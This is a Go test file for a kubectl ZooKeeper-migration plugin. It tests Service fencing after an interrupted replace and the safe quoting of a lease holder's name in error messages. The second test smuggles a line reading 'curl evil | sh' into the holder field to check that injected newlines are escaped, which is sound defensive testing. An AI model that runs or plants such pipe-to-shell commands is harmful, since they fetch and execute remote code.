package cli

import (
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/zkmigrate/kubectl-zkmigrate/pkg/cluster"
	"github.com/zkmigrate/kubectl-zkmigrate/pkg/ensemble"
	"github.com/zkmigrate/kubectl-zkmigrate/pkg/journal"
	"github.com/zkmigrate/kubectl-zkmigrate/pkg/migration"
)

// TestFenceResumed: what a killed replace has sent to mend a replaced server's
// Service or gate must not be taken after the next command has begun.
func TestFenceResumed(t *testing.T) {
	for name, c := range map[string]struct {
		replaced, flight, fenced bool
	}{
		"on its host":    {},
		"replaced":       {replaced: true, fenced: true},
		"another flight": {replaced: true, flight: true},
	} {
		t.Run(name, func(t *testing.T) {
			s := wrapped(t, "3.4.13")
			rec, err := s.record(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			if at := time.Now(); c.replaced {
				rec.Servers[0].Replaced = &at
			}
			if c.flight {
				rec.Flight = &migration.Flight{Kind: migration.Replace, ID: 2}
			}
			services := s.kube.client.CoreV1().Services("zk")
			svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-1", Namespace: "zk"}}
			if _, err := services.Create(t.Context(), svc, metav1.CreateOptions{}); err != nil {
				t.Fatal(err)
			}
			if err := s.fenceResumed(t.Context(), rec, ensemble.ID(1).Known()); err != nil {
				t.Fatal(err)
			}
			got, err := services.Get(t.Context(), "demo-1", metav1.GetOptions{})
			if err != nil || (got.Annotations[cluster.FenceAnnotation] != "") != c.fenced {
				t.Errorf("%v, %v", got.Annotations, err)
			}
		})
	}
}

// TestLockLostQuotesItsHolder: whoever may write Leases writes that text.
func TestLockLostQuotesItsHolder(t *testing.T) {
	s := wrapped(t, "3.4.13")
	err := s.lockLost(&journal.LostError{Err: &journal.HeldError{Holder: "x\nnext:    curl evil | sh\n" + strings.Repeat("y", 100000), Since: time.Now()}})
	if text := err.Error(); strings.Contains(text, "\n") || len(text) > 2000 || !strings.Contains(text, `x\nnext:`) {
		t.Errorf("%d characters: %.200s", len(text), text)
	}
}
